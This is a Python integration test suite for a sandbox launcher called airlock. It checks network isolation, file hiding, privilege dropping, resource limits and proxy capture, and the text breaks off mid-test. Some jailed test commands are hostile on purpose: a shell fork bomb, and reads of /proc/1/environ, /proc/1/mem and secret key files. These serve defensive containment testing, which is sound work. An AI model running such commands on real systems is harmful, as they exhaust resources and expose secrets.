#!/usr/bin/python3
"""Integration tests for `airlock run`: the real binary, real namespaces, real sockets.

Usage: /usr/bin/python3 test_launcher.py /path/to/airlock [unittest args...]
(or AIRLOCK_BIN=/path/to/airlock). Every test is bounded in time, and after every test the
jail must have left nothing behind: no process in its PID namespace, no cgroup named after
the launcher, no private directory.

The whole suite runs twice: as the calling user (root in CI) and, when the caller is root, as
the unprivileged user `airlock-test` (created if missing). Either variant is skipped, with
the reason, only where the run's capability probe (../harness/capabilities.py) says the kernel
does not allow user namespaces for that user; under CI=true such a skip fails the run.
"""

import os
import pwd
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import unittest
import uuid

AIRLOCK = os.environ.get("AIRLOCK_BIN", "")
TEST_USER = "airlock-test"
RUN_TIMEOUT = 60  # seconds; no single jailed command may take longer than this

# The shared harness (../harness): the capability probe, the proxy starter, the skip-aware
# runner. AIRLOCK_ITEST_NETNS=0: these tests make their own namespaces through the launcher and
# need the host's loopback; the harness must not move this process into a private one.
os.environ.setdefault("AIRLOCK_ITEST_NETNS", "0")
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
from harness import capabilities, runner  # noqa: E402
from harness.origin import OriginServer  # noqa: E402
from harness.proxy import Airlock, read_audit  # noqa: E402

SANITIZER_MARKS = ("ERROR: AddressSanitizer", "ERROR: LeakSanitizer", "runtime error:",
                   "SUMMARY: UndefinedBehaviorSanitizer")


def pidns_members(ns_id):
    """PIDs (host view) of processes whose PID namespace is ns_id ("pid:[4026...]")."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            if os.readlink(f"/proc/{entry}/ns/pid") == ns_id:
                found.append(int(entry))
        except OSError:
            pass
    return found


def cgroup_dirs_named(name):
    """Directories called `name` anywhere in the cgroup file systems (bounded walk)."""
    hits = []
    for top in ("/sys/fs/cgroup",):
        if not os.path.isdir(top):
            continue
        base_depth = top.rstrip("/").count("/")
        for root, dirs, _ in os.walk(top):
            if os.path.basename(root) == name:
                hits.append(root)
            if root.count("/") - base_depth >= 5:
                dirs[:] = []
    return hits


class TcpServer:
    """A loopback TCP server on the host that counts the connections it accepts."""

    def __init__(self, family=socket.AF_INET, host="127.0.0.1"):
        self.sock = socket.socket(family, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((host, 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self.stop = False
        self.thread = threading.Thread(target=self._loop, daemon=True)
        self.thread.start()

    def _loop(self):
        while not self.stop:
            try:
                c, _ = self.sock.accept()
                self.accepted += 1
                c.close()
            except OSError:
                pass

    def close(self):
        self.stop = True
        self.thread.join(5)
        self.sock.close()


# What the origin (the harness's OriginServer) answers on every path the tests ask for.
GREETING = b"hello from the origin\n"


class LauncherTestBase:
    """The tests; mixed into one unittest.TestCase per user variant."""

    user = None  # pwd entry of the user the launcher runs as; None: the caller

    def setUp(self):
        self.assertTrue(AIRLOCK and os.access(AIRLOCK, os.X_OK),
                        "no airlock binary (pass its path as the first argument)")
        self.tmp = tempfile.mkdtemp(prefix="airlock-launcher-itest-")
        os.chmod(self.tmp, 0o755)
        self.work = os.path.join(self.tmp, "work")
        self.outside = os.path.join(self.tmp, "outside")  # exists on the host, not exposed
        self.private = os.path.join(self.tmp, "launcher-tmp")  # the launcher's TMPDIR
        for d in (self.work, self.outside, self.private):
            os.mkdir(d, 0o755)
            if self.user is not None:
                os.chown(d, self.user.pw_uid, self.user.pw_gid)
        self.launcher_pids = []
        self.pidns = []

    def tearDown(self):
        # Nothing of any jail may remain: processes, cgroups, private directories.
        leftovers = []
        deadline = time.monotonic() + 3
        for ns in self.pidns:
            while pidns_members(ns) and time.monotonic() < deadline:
                time.sleep(0.05)
            if pidns_members(ns):
                leftovers.append(f"processes in {ns}: {pidns_members(ns)}")
        for pid in self.launcher_pids:
            for d in cgroup_dirs_named(f"airlock-{pid}"):
                leftovers.append(f"cgroup {d}")
        if os.path.isdir(self.private) and os.listdir(self.private):
            leftovers.append(f"private dirs {os.listdir(self.private)}")
        shutil.rmtree(self.tmp, ignore_errors=True)
        self.assertEqual(leftovers, [], "the jail left something behind")

    # ---- helpers ---------------------------------------------------------------------------

    def _popen_kwargs(self, env=None):
        e = dict(os.environ if env is None else env)
        e["TMPDIR"] = self.private
        kwargs = {"cwd": self.work, "env": e}
        if self.user is not None:
            kwargs.update(user=self.user.pw_uid, group=self.user.pw_gid, extra_groups=[])
            e["HOME"] = self.user.pw_dir
        return kwargs

    def _command(self, script, opts):
        # The script records its PID namespace first, so tearDown can check that nothing of
        # that namespace survives the launcher.
        marker = f"airlock-itest-{uuid.uuid4().hex[:12]}"
        full = f"readlink /proc/self/ns/pid > .pidns 2>/dev/null; {script}"
        return [AIRLOCK, "run", *opts, "--", "sh", "-c", full, marker]

    def _record_ns(self):
        path = os.path.join(self.work, ".pidns")
        try:
            with open(path) as f:
                ns = f.read().strip()
            os.unlink(path)
            if ns:
                self.pidns.append(ns)
        except OSError:
            pass

    def own(self, *paths):
        """Hands paths to the launcher's user (the unprivileged variant's)."""
        if self.user is None:
            return
        for p in paths:
            os.lchown(p, self.user.pw_uid, self.user.pw_gid)

    def run_in(self, cwd, *args, home=None):
        """`airlock ARGS` from the directory cwd (and with HOME=home), as the test's user."""
        kwargs = self._popen_kwargs()
        kwargs["cwd"] = cwd
        if home is not None:
            kwargs["env"]["HOME"] = home
        p = subprocess.run([AIRLOCK, *args], stdin=subprocess.DEVNULL, capture_output=True,
                           text=True, timeout=RUN_TIMEOUT, **kwargs)
        self.assert_no_sanitizer_reports(p.stderr)
        return p

    def assert_no_sanitizer_reports(self, stderr):
        """The launcher (a sanitized build in CI) printed no ASan/UBSan/LSan report."""
        hits = [line for line in stderr.splitlines() if any(m in line for m in SANITIZER_MARKS)]
        self.assertEqual(hits, [], "sanitizer report from the launcher:\n" + stderr[-4000:])

    def run_airlock(self, *args, **kw):
        """`airlock ARGS` as the test's user, its stderr checked for sanitizer reports."""
        p = subprocess.run([AIRLOCK, *args], capture_output=True, text=True,
                           timeout=RUN_TIMEOUT, **self._popen_kwargs(**kw))
        self.assert_no_sanitizer_reports(p.stderr)
        return p

    def jail(self, script, *opts, input=None, env=None, timeout=RUN_TIMEOUT, rc=0):
        """Runs `sh -c script` in the jail; returns CompletedProcess (text). Fails unless the
        exit status is `rc` (None: the caller checks it) and stderr has no sanitizer report."""
        cmd = self._command(script, opts)
        p = subprocess.Popen(cmd, stdin=subprocess.PIPE if input is not None else subprocess.DEVNULL,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                             **self._popen_kwargs(env))
        self.launcher_pids.append(p.pid)
        try:
            out, err = p.communicate(input=input, timeout=timeout)
        except subprocess.TimeoutExpired:
            p.kill()
            p.communicate()
            self.fail(f"airlock run did not finish within {timeout}s: {script}")
        self._record_ns()
        self.assert_no_sanitizer_reports(err)
        if rc is not None:
            self.assertEqual(p.returncode, rc, "airlock run exit status; stdout:\n%s\nstderr:\n%s"
                             % (out[-2000:], err[-3000:]))
        return subprocess.CompletedProcess(cmd, p.returncode, out, err)

    def python_in_jail(self, code, *opts, timeout=RUN_TIMEOUT, rc=0):
        path = os.path.join(self.work, f"t_{uuid.uuid4().hex[:8]}.py")
        with open(path, "w") as f:
            f.write(code)
        os.chmod(path, 0o644)
        return self.jail(f"exec /usr/bin/python3 {path}", *opts, timeout=timeout, rc=rc)

    # ---- behaves like the command --------------------------------------------------------

    def test_exit_status_is_the_commands(self):
        self.assertEqual(self.jail("exit 7", rc=None).returncode, 7)
        self.assertEqual(self.jail("exit 0", rc=None).returncode, 0)
        r = self.jail("kill -USR1 $$", rc=None)
        self.assertEqual(r.returncode, 128 + signal.SIGUSR1)

    def test_stdio_passes_through(self):
        r = self.jail("tr a-z A-Z; echo err >&2", input="hello\n")
        self.assertEqual(r.returncode, 0)
        self.assertEqual(r.stdout, "HELLO\n")
        self.assertIn("err", r.stderr)

    def test_not_found_and_not_executable(self):
        r = self.jail("exec /no/such/program", rc=None)
        self.assertEqual(r.returncode, 127)
        p = self.run_airlock("run", "--", "no-such-program-xyz")
        self.assertEqual(p.returncode, 127, p.stderr)
        self.assertIn("command not found", p.stderr)
        script = os.path.join(self.work, "noexec.sh")
        with open(script, "w") as f:
            f.write("#!/bin/sh\nexit 0\n")
        os.chmod(script, 0o644)
        p = self.run_airlock("run", "--", script)
        self.assertEqual(p.returncode, 126, p.stderr)

    def test_launcher_errors_exit_125_with_reason(self):
        for args in (["--bogus", "true"], ["--memory", "lots", "true"], ["--rw", "/", "true"],
                     ["--proxy", "proxy.example:1", "true"]):
            p = self.run_airlock("run", *args)
            self.assertEqual(p.returncode, 125, args)
            self.assertTrue(p.stderr.startswith("airlock run: "), p.stderr)

    def test_signals_are_forwarded(self):
        script = "trap 'exit 42' TERM; touch ready; while :; do sleep 0.05; done"
        cmd = self._command(script, [])
        p = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                             **self._popen_kwargs())
        self.launcher_pids.append(p.pid)
        deadline = time.monotonic() + 20
        while not os.path.exists(os.path.join(self.work, "ready")):
            if time.monotonic() > deadline or p.poll() is not None:
                p.kill()
                p.communicate()
                self.fail("the jailed script never became ready")
            time.sleep(0.02)
        p.send_signal(signal.SIGTERM)
        try:
            _, err = p.communicate(timeout=20)
        except subprocess.TimeoutExpired:
            p.kill()
            p.communicate()
            self.fail("SIGTERM was not forwarded")
        self._record_ns()
        self.assert_no_sanitizer_reports(err)
        self.assertEqual(p.returncode, 42)

    def test_jail_dies_with_the_launcher(self):
        """SIGKILL to the launcher (no chance to clean up): the jail must not outlive it
        (docs/launcher.md). Checked on the host: no process is left in the jail's PID
        namespace, waited for with a generous deadline."""
        cmd = self._command("touch ready; sleep 600 & sleep 600", [])
        p = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                             **self._popen_kwargs())
        self.launcher_pids.append(p.pid)
        deadline = time.monotonic() + 20
        while not os.path.exists(os.path.join(self.work, "ready")):
            if time.monotonic() > deadline or p.poll() is not None:
                p.kill()
                p.communicate()
                self.fail("the jailed script never became ready")
            time.sleep(0.02)
        self._record_ns()
        self.assertEqual(len(self.pidns), 1, "the jail's PID namespace was not recorded")
        ns = self.pidns[0]
        self.assertTrue(pidns_members(ns), "the jail is not running")
        p.kill()
        p.communicate(timeout=20)
        self.assertEqual(p.returncode, -signal.SIGKILL)
        deadline = time.monotonic() + 20
        while pidns_members(ns) and time.monotonic() < deadline:
            time.sleep(0.05)
        self.assertEqual(pidns_members(ns), [], "jailed processes outlived the launcher")

    # ---- network ----------------------------------------------------------------------------

    def test_direct_tcp_to_host_loopback_fails(self):
        server = TcpServer()
        try:
            r = self.python_in_jail(f"""
import socket
s = socket.socket()
s.settimeout(5)
try:
    s.connect(("127.0.0.1", {server.port}))
    print("CONNECTED")
except OSError as e:
    print("failed", e)
""")
            self.assertEqual(r.returncode, 0, r.stderr)
            self.assertIn("failed", r.stdout)
            self.assertEqual(server.accepted, 0)
        finally:
            server.close()

    def test_ipv6_fails(self):
        capabilities.require(self, "ipv6_loopback")
        server = TcpServer(socket.AF_INET6, "::1")
        try:
            r = self.python_in_jail(f"""
import socket
s = socket.socket(socket.AF_INET6)
s.settimeout(5)
try:
    s.connect(("::1", {server.port}))
    print("CONNECTED")
except OSError as e:
    print("failed", e)
# connect() on UDP only looks up a route; it sends nothing, so it is safe to try an outside
# (documentation) address: there must be no route at all.
u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
try:
    u.connect(("2001:db8::1", 53))
    print("ROUTED6")
except OSError as e:
    print("unroutable", e.errno)
""")
            self.assertEqual(r.returncode, 0, r.stderr)
            self.assertIn("failed", r.stdout)
            self.assertIn("unroutable", r.stdout)
            self.assertNotIn("ROUTED6", r.stdout)
            self.assertEqual(server.accepted, 0)
        finally:
            server.close()

    def test_udp_reaches_nothing(self):
        host_udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        host_udp.bind(("127.0.0.1", 0))
        port = host_udp.getsockname()[1]
        try:
            r = self.python_in_jail(f"""
import socket
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(1)
for addr in [("127.0.0.1", {port}), ("127.0.0.53", 53)]:
    try:
        u.sendto(b"ping", addr)
        u.recvfrom(100)
        print("ANSWERED", addr)
    except OSError as e:
        print("no answer", addr)
v = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    v.connect(("192.0.2.1", 53))   # route lookup only; nothing is sent
    print("ROUTED")
except OSError as e:
    print("unroutable", e.errno)
print(open("/proc/net/route").read().count("\\n"))
""")
            self.assertEqual(r.returncode, 0, r.stderr)
            self.assertNotIn("ANSWERED", r.stdout)
            self.assertIn("unroutable", r.stdout)
            self.assertEqual(r.stdout.strip().splitlines()[-1], "1")  # header line only
            host_udp.settimeout(0.2)
            with self.assertRaises(socket.timeout):
                host_udp.recvfrom(100)  # the host's socket got nothing
        finally:
            host_udp.close()

    def test_raw_and_packet_sockets_fail(self):
        r = self.python_in_jail("""
import socket
for fam, typ, proto in [(socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET6, socket.SOCK_RAW, 58),
                        (socket.AF_PACKET, socket.SOCK_RAW, 0), (40, socket.SOCK_STREAM, 0)]:
    try:
        socket.socket(fam, typ, proto)
        print("OPENED", fam)
    except OSError as e:
        print("denied", fam, e.errno)
""")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertNotIn("OPENED", r.stdout)
        self.assertEqual(r.stdout.count("denied"), 4)

    def test_abstract_unix_socket_on_host_unreachable(self):
        name = f"\0airlock-itest-{uuid.uuid4().hex}"
        host = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        host.bind(name)
        host.listen(1)
        host.settimeout(0.2)
        try:
            r = self.python_in_jail(f"""
import socket
s = socket.socket(socket.AF_UNIX)
try:
    s.connect({name!r})
    print("CONNECTED")
except OSError as e:
    print("failed", e.errno)
""")
            self.assertEqual(r.returncode, 0, r.stderr)
            self.assertIn("failed", r.stdout)
            with self.assertRaises(socket.timeout):
                host.accept()
        finally:
            host.close()

    def test_proxy_variables_and_relay_listener(self):
        r = self.jail("env")
        env = dict(line.split("=", 1) for line in r.stdout.splitlines() if "=" in line)
        for name in ("HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy", "ALL_PROXY",
                     "all_proxy"):
            self.assertEqual(env.get(name), "http://127.0.0.1:3128", name)
        self.assertEqual(env.get("NO_PROXY"), "")
        self.assertEqual(env.get("no_proxy"), "")
        self.assertEqual(env.get("SSL_CERT_FILE"), "/run/airlock/ca-bundle.crt")

    def test_secret_looking_environment_is_scrubbed(self):
        env = dict(os.environ, GITHUB_TOKEN="ghp_secret", MY_API_KEY="k", PLAIN="ok")
        r = self.jail("env", "--env", "MY_API_KEY", env=env)
        self.assertNotIn("ghp_secret", r.stdout)
        self.assertIn("MY_API_KEY=k", r.stdout)  # passed on purpose
        self.assertIn("PLAIN=ok", r.stdout)

    # ---- file system -----------------------------------------------------------------------

    def test_writes_only_inside_workdir_and_tmp(self):
        outside_file = os.path.join(self.outside, "x")
        r = self.jail(f"echo inside > in.txt && echo ok1; echo x > /tmp/t && echo ok2;"
                      f" echo x > {outside_file} || echo denied1; touch /etc/airlock-x || echo denied2;"
                      f" touch /usr/airlock-x || echo denied3")
        self.assertEqual(r.stdout.split(), ["ok1", "ok2", "denied1", "denied2", "denied3"], r.stderr)
        with open(os.path.join(self.work, "in.txt")) as f:
            self.assertEqual(f.read(), "inside\n")
        self.assertFalse(os.path.exists(outside_file))
        self.assertFalse(os.path.exists("/etc/airlock-x"))

    def test_policy_hands_over_placeholders_and_hides_secret_files(self):
        """--policy: each secret read from a variable is handed over as its placeholder (the
        host's real value never enters), files holding secrets are hidden, and no secret is read
        by the launcher (the variable may even be unset on the host)."""
        # In the work directory: exposed unless hidden (its directory, not the work directory
        # itself, which a secret may not share: see test_redteam.py).
        os.mkdir(os.path.join(self.work, "secrets"))
        key_file = os.path.join(self.work, "secrets", "svc.key")
        with open(key_file, "w") as f:
            f.write("svc-REAL-SECRET-VALUE\n")
        policy = os.path.join(self.outside, "policy.yaml")
        with open(policy, "w") as f:
            f.write("secrets:\n"
                    "  gh: {env: AIRLOCK_T_GH, placeholder: 'ghp_PLACEHOLDER0000000000000',"
                    " hosts: [api.github.com]}\n"
                    "  svc: {file: %s}\n"
                    "agents: {default: {rules: []}}\nrules: []\n" % key_file)
        for p in (os.path.dirname(key_file), key_file, policy):
            os.chmod(p, 0o755 if os.path.isdir(p) else 0o644)
            if self.user is not None:
                os.chown(p, self.user.pw_uid, self.user.pw_gid)
        env = dict(os.environ, AIRLOCK_T_GH="ghp_REALVALUE000000000000000")
        r = self.jail("printenv AIRLOCK_T_GH; cat secrets/svc.key; echo rc=$?", "--policy", policy,
                      env=env)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(r.stdout.splitlines()[0], "ghp_PLACEHOLDER0000000000000", r.stdout)
        self.assertNotIn("REAL", r.stdout)
        self.assertNotIn("rc=0", r.stdout)
        # --env still wins over the placeholder; a policy that does not load is a launcher error.
        r = self.jail("printenv AIRLOCK_T_GH", "--policy", policy, "--env", "AIRLOCK_T_GH=mine")
        self.assertEqual(r.stdout.strip(), "mine")
        with open(policy, "w") as f:
            f.write("secrets: {gh: {env: 'not a name'}}\n")
        r = self.jail("true", "--policy", policy, rc=125)
        self.assertIn("secrets.gh.env", r.stderr)

    def test_hidden_paths_cannot_be_read_or_reexposed(self):
        secret = os.path.join(self.work, "secret.txt")
        with open(secret, "w") as f:
            f.write("TOPSECRET\n")
        secret_dir = os.path.join(self.work, "secrets")
        os.mkdir(secret_dir)
        with open(os.path.join(secret_dir, "k"), "w") as f:
            f.write("TOPSECRET\n")
        for p in (secret, secret_dir, os.path.join(secret_dir, "k")):
            if self.user is not None:
                os.chown(p, self.user.pw_uid, self.user.pw_gid)
        r = self.jail("cat secret.txt; echo rc=$?; ls secrets; echo rc=$?; cat secrets/k; echo rc=$?",
                      "--hide", secret, "--hide", "secrets")
        self.assertNotIn("TOPSECRET", r.stdout)
        self.assertNotIn("rc=0", r.stdout, r.stdout + r.stderr)
        # --ro/--rw cannot bring a hidden path back, not even through a symlink.
        os.symlink(secret_dir, os.path.join(self.outside, "link"))
        for opt in (["--ro", secret], ["--rw", os.path.join(secret_dir, "k")],
                    ["--ro", os.path.join(self.outside, "link")]):
            p = self.run_airlock("run", "--hide", secret, "--hide", secret_dir, *opt, "--",
                                 "true")
            self.assertEqual(p.returncode, 125, opt)
            self.assertIn("inside hidden path", p.stderr)

    def test_ca_bundle_and_key_directory(self):
        cadir = os.path.join(self.outside, "certs")
        os.mkdir(cadir)
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                        "ec_paramgen_curve:P-256", "-nodes", "-days", "1", "-subj",
                        "/CN=Airlock itest CA", "-keyout", os.path.join(cadir, "ca.key"),
                        "-out", os.path.join(cadir, "ca.crt")],
                       check=True, capture_output=True, timeout=30)
        for p in os.listdir(cadir):
            os.chmod(os.path.join(cadir, p), 0o644)
        with open(os.path.join(cadir, "ca.crt")) as f:
            pem = f.read().strip()
        r = self.jail(f"cat \"$SSL_CERT_FILE\"; ls $SSL_CERT_DIR; cat {cadir}/ca.key; echo keyrc=$?;"
                      " echo x >> \"$SSL_CERT_FILE\" || echo bundle-ro",
                      "--ca", os.path.join(cadir, "ca.crt"), "--rw", self.outside)
        self.assertIn(pem, r.stdout)
        self.assertIn("BEGIN CERTIFICATE", r.stdout)
        self.assertNotIn("PRIVATE KEY", r.stdout)
        self.assertNotIn("keyrc=0", r.stdout)
        self.assertIn("bundle-ro", r.stdout)
        self.assertRegex(r.stdout, r"[0-9a-f]{8}\.0")

    def test_proc_is_the_jails_own(self):
        r = self.jail("echo $$; ls /proc | grep -c '^[0-9]'; cat /proc/1/cmdline | tr '\\0' ' '")
        lines = r.stdout.split("\n")
        self.assertEqual(lines[0], "2")  # the command is PID 2; the launcher's init is PID 1
        self.assertLess(int(lines[1]), 10)  # only the jail's few processes
        self.assertIn("airlock", lines[2])   # PID 1 is the launcher's init

    def test_init_memory_and_environment_unreadable(self):
        # The jail's init is a copy of the launcher, environment and all.
        env = dict(os.environ, SOME_TOKEN="init-secret")
        r = self.jail("cat /proc/1/environ; echo env=$?; head -c 16 /proc/1/mem; echo mem=$?",
                      env=env)
        self.assertNotIn("init-secret", r.stdout)
        for what in ("env", "mem"):
            self.assertNotIn(f"{what}=0", r.stdout, r.stdout + r.stderr)

    def test_no_privileges_left(self):
        r = self.jail("grep -E '^(Cap|NoNewPrivs|Seccomp)' /proc/self/status; unshare -U true;"
                      " echo unshare=$?")
        status = dict(line.split(":\t", 1) for line in r.stdout.splitlines() if ":\t" in line)
        for cap in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
            self.assertEqual(status.get(cap), "0000000000000000", cap)
        self.assertEqual(status.get("NoNewPrivs"), "1")
        self.assertEqual(status.get("Seccomp"), "2")
        self.assertNotIn("unshare=0", r.stdout)

    # ---- limits ------------------------------------------------------------------------------

    def test_timeout_kills_the_tree_with_124(self):
        start = time.monotonic()
        r = self.jail("sleep 30 & sleep 30", "--timeout", "1s", timeout=30, rc=124)
        self.assertLess(time.monotonic() - start, 15)
        self.assertIn("timed out", r.stderr)

    def test_memory_hog_is_stopped(self):
        r = self.python_in_jail("""
chunks = []
for i in range(2048):                 # bounded: at most 2 GiB
    chunks.append(bytearray(1 << 20))  # touched: bytearray zero-fills
print("SURVIVED")
""", "--memory", "64M", "--timeout", "30s", "--verbose", timeout=60, rc=None)
        self.assertNotIn("SURVIVED", r.stdout)
        mech = re.search(r"limits: memory=(\S+)", r.stderr)
        self.assertIsNotNone(mech, r.stderr)
        if mech.group(1).startswith("cgroup"):
            self.assertEqual(r.returncode, 137, r.stderr)
            self.assertIn("memory limit", r.stderr)
        else:  # RLIMIT_AS: the allocation fails instead
            self.assertNotEqual(r.returncode, 0)
            self.assertIn("MemoryError", r.stderr)

    def test_pids_limit_stops_forks(self):
        r = self.python_in_jail("""
import subprocess
procs = []
try:
    for i in range(200):              # bounded
        procs.append(subprocess.Popen(["sleep", "30"]))
except OSError as e:
    print("stopped", e.errno)
print("started", len(procs))
""", "--pids", "16", "--timeout", "30s", "--verbose", timeout=60)
        self.assertIn("stopped", r.stdout, r.stderr)
        started = int(re.search(r"started (\d+)", r.stdout).group(1))
        self.assertLess(started, 16)
        self.assertGreater(started, 3)

    def test_fork_bomb_is_contained(self):
        # Contained, the script goes on: `sleep 2` runs (exit 0) or cannot fork under the
        # limit (the shell exits 2), long before --timeout. An ignored --pids would let the
        # bomb run until --timeout killed it: exit 124 (or 137), which must fail here.
        r = self.jail("bomb() { bomb | bomb & }; bomb; sleep 2", "--pids", "32", "--timeout", "20s",
                      timeout=120, rc=None)
        self.assertIn(r.returncode, (0, 2), r.stderr[-2000:])

    # ---- through the proxy ---------------------------------------------------------------------

    def test_curl_through_the_proxy_reaches_an_allowed_origin(self):
        origin = OriginServer(fallback=GREETING).start()
        oport = origin.port
        try:
            port = self.start_proxy("listen: {proxy: '127.0.0.1:0', admin: ''}\n"
                                    "audit: {path: 'off'}\n"
                                    "agents: {default: {rules: [origin]}}\n"
                                    f"rules: [{{name: origin, hosts: [127.0.0.1], ports: [{oport}],"
                                    " allow_cidrs: [127.0.0.1/32]}]\n")
            r = self.jail(f"curl -sS --max-time 10 http://127.0.0.1:{oport}/hello; echo rc=$?;"
                          f" curl -sS --max-time 5 --noproxy '*' http://127.0.0.1:{oport}/ ; echo direct=$?",
                          "--proxy", f"127.0.0.1:{port}", timeout=60)
            self.assertIn("hello from the origin", r.stdout, r.stderr)
            self.assertIn("rc=0", r.stdout)
            self.assertNotIn("direct=0", r.stdout)
            self.assertEqual(len(origin.seen("/hello")), 1)  # proxied once; direct never got there
        finally:
            origin.stop()


    # ---- transparent capture (issue 8) and the protected relay identity ------------------------

    def start_proxy(self, policy, name="policy"):
        """Starts `airlock proxy` (the harness's starter) with the policy text; returns its
        port. A proxy that does not start fails the test; at cleanup it must exit 0 on SIGTERM
        with no sanitizer report."""
        proxy = Airlock(policy, name=name)
        try:
            proxy.start()
        except BaseException:
            proxy.cleanup()
            raise

        def stop():
            try:
                rc = proxy.stop()
                reports = proxy.sanitizer_reports()
                tail = proxy.stderr()[-3000:]
            finally:
                proxy.cleanup()
            self.assertEqual(rc, 0, "the proxy's exit status after SIGTERM:\n" + tail)
            self.assertEqual(reports, [], tail)
        self.addCleanup(stop)
        return proxy.port

    def require_capture(self):
        """Capture needs the kernel's nf_tables nat and policy routing: the run's capability
        probe says whether the machine has them, never `airlock run --capture`'s own error
        (that is what a regression prints)."""
        capabilities.require(self, "capture")

    def make_certs(self):
        """An origin CA with a leaf for allowed.test, and an Airlock CA for interception."""
        d = os.path.join(self.outside, "certs")
        os.makedirs(d, exist_ok=True)
        os.chmod(d, 0o755)

        def run(*args):
            subprocess.run(["openssl", *args], check=True, capture_output=True, timeout=30)

        for ca in ("origin-ca", "airlock-ca"):
            run("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
                "-days", "1", "-subj", f"/CN=itest {ca}", "-keyout", f"{d}/{ca}.key", "-out",
                f"{d}/{ca}.crt", "-addext", "basicConstraints=critical,CA:TRUE", "-addext",
                "keyUsage=critical,keyCertSign,cRLSign")
        run("req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-subj",
            "/CN=allowed.test", "-keyout", f"{d}/leaf.key", "-out", f"{d}/leaf.csr")
        with open(f"{d}/leaf.ext", "w") as f:
            f.write("subjectAltName=DNS:allowed.test\nbasicConstraints=CA:FALSE\n"
                    "extendedKeyUsage=serverAuth\n")
        run("x509", "-req", "-in", f"{d}/leaf.csr", "-CA", f"{d}/origin-ca.crt", "-CAkey",
            f"{d}/origin-ca.key", "-CAcreateserial", "-days", "1", "-out", f"{d}/leaf.crt",
            "-extfile", f"{d}/leaf.ext")
        os.chmod(f"{d}/airlock-ca.crt", 0o644)
        return d

    def start_origins(self, certs=None):
        """The plain origin, and a TLS one for allowed.test when certs are given."""
        plain = OriginServer(fallback=GREETING).start()
        self.addCleanup(plain.stop)
        tls = None
        if certs:
            import ssl
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            ctx.load_cert_chain(f"{certs}/leaf.crt", f"{certs}/leaf.key")
            tls = OriginServer(ctx, fallback=GREETING).start()
            self.addCleanup(tls.stop)
        return plain.port, (tls.port if tls else None)

    def audit_records(self, audit_path, timeout=15, at_least=1, **match):
        """Audit records matching every item of `match`, waiting up to timeout for at_least
        of them (the proxy writes a record when its exchange ends)."""
        deadline = time.monotonic() + timeout
        while True:
            found = [rec for rec in read_audit(audit_path)
                     if all(rec.get(k) == v for k, v in match.items())]
            if len(found) >= at_least or time.monotonic() >= deadline:
                return found
            time.sleep(0.05)

    UNSET_PROXY = ("unset HTTP_PROXY http_proxy HTTPS_PROXY https_proxy ALL_PROXY all_proxy;"
                   " test -z \"$HTTP_PROXY$http_proxy$HTTPS_PROXY$https_proxy\" || exit 99; ")

    def capture_policy(self, oport, tport, certs, audit):
        return ("listen: {proxy: '127.0.0.1:0', admin: 'off'}\n"
                f"audit: {{path: '{audit}'}}\n"
                f"tls: {{ca_cert: '{certs}/airlock-ca.crt', ca_key: '{certs}/airlock-ca.key',"
                f" upstream_ca: '{certs}/origin-ca.crt'}}\n"
                "agents: {default: {rules: [web, secure]}}\n"
                "rules:\n"
                f"  - {{name: web, hosts: [allowed.test], addresses: [127.0.0.1],"
                f" allow_cidrs: [127.0.0.1/32], ports: [{oport}]}}\n"
                f"  - {{name: secure, hosts: [allowed.test], addresses: [127.0.0.1],"
                f" allow_cidrs: [127.0.0.1/32], ports: [{tport}], inspect: true}}\n")

    def test_capture_curl_without_proxy_variables_goes_through_the_policy(self):
        self.require_capture()
        certs = self.make_certs()
        oport, tport = self.start_origins(certs)
        audit = os.path.join(self.tmp, "audit.jsonl")
        port = self.start_proxy(self.capture_policy(oport, tport, certs, audit))
        ca = ["--ca", f"{certs}/airlock-ca.crt", "--proxy", f"127.0.0.1:{port}"]
        curl = "curl -sS --max-time 10 -o /dev/null -w '%{http_code}\\n'"
        r = self.jail(
            # The same requests through the proxy variables, for comparison...
            f"{curl} http://allowed.test:{oport}/via-proxy; {curl} https://allowed.test:{tport}/via-proxy;"
            # ...and with them gone: the resolver and the capture carry them.
            f" {self.UNSET_PROXY}"
            f" curl -sS --max-time 10 http://allowed.test:{oport}/via-capture; echo rc=$?;"
            f" curl -sS --max-time 10 https://allowed.test:{tport}/via-capture; echo rc=$?;"
            # Refused names are refused by the proxy, as for a proxied request.
            f" {curl} http://denied.test:{oport}/x; {curl} https://denied.test:{tport}/x; echo rc=$?",
            "--capture", *ca, timeout=90)
        out = r.stdout.split("\n")
        self.assertEqual(out[:2], ["200", "200"], r.stdout + r.stderr)
        self.assertEqual(r.stdout.count("hello from the origin"), 2, r.stdout + r.stderr)
        self.assertEqual(r.stdout.count("rc=0"), 2, r.stdout + r.stderr)
        self.assertIn("403", r.stdout)  # plain HTTP: the proxy's own answer reaches curl
        self.assertNotIn("rc=0", r.stdout.split("403", 1)[1])  # TLS: the connection is reset
        for scheme, rule in (("http", "web"), ("https", "secure")):
            proxied = self.audit_records(audit, scheme=scheme, path="/via-proxy")
